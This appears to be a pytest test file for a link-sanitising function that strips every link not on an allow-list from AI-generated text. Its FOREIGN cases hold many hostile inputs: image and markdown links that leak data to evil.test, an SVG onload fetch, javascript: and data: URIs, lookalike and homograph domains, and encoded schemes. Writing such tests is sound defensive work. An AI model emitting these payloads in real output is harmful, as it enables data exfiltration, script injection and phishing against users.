"""D02: a link goes, whatever its form, unless its whole target is known."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.safety.links import links, only_known_links

KNOWN = ["https://help.acme.test/articles/1", "https://status.acme.test/"]

FOREIGN = [
    ("See [here](https://evil.test/?d=x)", "See here"),
    ("![x](https://evil.test/p.png?d=jo)", ""),
    ("![x](https://help.acme.test/articles/1)", ""),
    ("<a href='https://evil.test/?d=1'>click</a>", "click"),
    ("<img src=https://evil.test/x>", ""),
    ("<svg/onload=fetch('//evil.test')>", ""),
    ("Look [here][1]\n\n[1]: https://evil.test/?d=1", "Look here\n\n"),
    ("Look [here][]\n\n[here]: <https://evil.test>", "Look here\n\n"),
    ("<https://evil.test/?d=2>", ""),
    ("//evil.test/x", ""),
    ("hxxp://evil.test/a", ""),
    ("hxxps://evil[.]test/a", "[.]test/a"),
    ("https://xn--cme-8ka.test/", ""),
    ("https://аcme.test/", ""),
    ("https://help.acme.test@evil.test/", ""),
    ("https://help.acme.test\\@evil.test", ""),
    ("https:\\\\evil.test\\x", ""),
    ("https:/evil.test", ""),
    ("HTTPS://EVIL.TEST", ""),
    ("&#104;ttps://evil.test/", ""),
    ("&amp;#104;ttps://evil.test", ""),
    ("ht\u200btps://evil.test", ""),
    ("ｈｔｔｐｓ://evil.test", ""),
    ("javascript:alert`1`", "`1`"),
    ("[x](javascript:alert`1`)", "x"),
    ("data:text/html;base64,AAAA", ""),
    ("www.evil.test", ""),
    ("go to evil.test/?d=jo now", "go to  now"),
    ("evil。test/x", ""),
    ("ftp://evil.test", ""),
    ("mailto:evil@evil.test", ""),
    ("http://2130706433/x", ""),
    ("https://evil.test:443/x", ""),
    ("https://help.acme.test/articles/1?d=secret", ""),
    ("https://help.acme.test/articles/2", ""),
    ("https://help.acme.test.evil.test/", ""),
    ("[https://status.acme.test](https://evil.test)", "https://status.acme.test"),
    ("[a](http[b](x)://evil.test)", "a"),
    ("[t](//evil.test 'x')", "t"),
    ("go to refund.help/now and sign in", "go to  and sign in"),
    ("go to acme-login.support now", "go to  now"),
    ("open acme.email, please", "open , please"),
    ("visit login.acme.lol.", "visit ."),
    ("visit REFUND.HELP", "visit "),
    ("visit Refund.Help.", "visit ."),
    ("besuchen Sie пример.рф bitte", "besuchen Sie  bitte"),
    ("siehe 例子.中国 dort", "siehe  dort"),
    ("at foo.weird/abc", "at "),
    ("at foo.weird?x=1", "at "),
    ("at foo.weird:8080", "at "),
]

KEPT = [
    "See https://help.acme.test/articles/1.",
    "See https://HELP.acme.test/articles/1, or (https://status.acme.test).",
    "[Help](https://help.acme.test/articles/1)",
    "Open Settings > Users, e.g. at 10:30.",
    "Node.js 3.5 reads config.yaml and/or 24/7",
    "a < b and c > d, price 3,50 EUR/Monat",
    "Click [Save] (top right)",
    "1. First\n2. Second",
    "Fish & chips &amp; peas",
    "See report.pdf, setup.exe and index.html.",
    "Open report.pdf/index.html? Or report.pdf?x",
    "e.g. this, z.B. das, i.e. that, d.h. so, u.a. dies, p.ej. esto",
    "Version 2.11.0/2.12 and v1.2/v1.3, 12.50/Monat, 3.Platz/Reihe",
    "It is done.Please wait. It is done.Contact us. Is it done.Yes?No",
    "a.m./p.m., U.S./EU, S.p.A./GmbH, Dr.Smith/Jones, bzw.Herr/Frau",
    "error.log:120 and config.yaml:12 at 6.pm",
]


@pytest.mark.parametrize(("text", "rest"), FOREIGN)
def test_a_foreign_link_is_taken_out(text: str, rest: str) -> None:
    """Its wording stays, its target goes, and nothing is left to take out."""
    cleaned = only_known_links(text, KNOWN)
    assert cleaned == rest
    assert only_known_links(cleaned, KNOWN) == cleaned


@pytest.mark.parametrize("text", KEPT)
def test_what_is_known_or_no_link_stays_to_the_letter(text: str) -> None:
    """A text without foreign links comes back unchanged."""
    assert only_known_links(text, KNOWN) == text


_BITS = ["https://", "evil.test", "/", "[", "](", ")", "<a href=", ">", "//", "\\", "@"]
_BITS += ["www.", "&#46;", "\u200b", "javascript:", " ", "x", "status.acme.test", "!"]


@given(st.lists(st.sampled_from(_BITS), max_size=12).map("".join))
def test_nothing_that_is_left_leads_elsewhere(text: str) -> None:
    """However links are nested, what remains has known targets only."""
    cleaned = only_known_links(text, KNOWN)
    known = {"status.acme.test", "help.acme.test/articles/1"}
    assert set(links(cleaned)) <= known
    assert not re.search(r"(?<![\w.])javascript:x", cleaned)
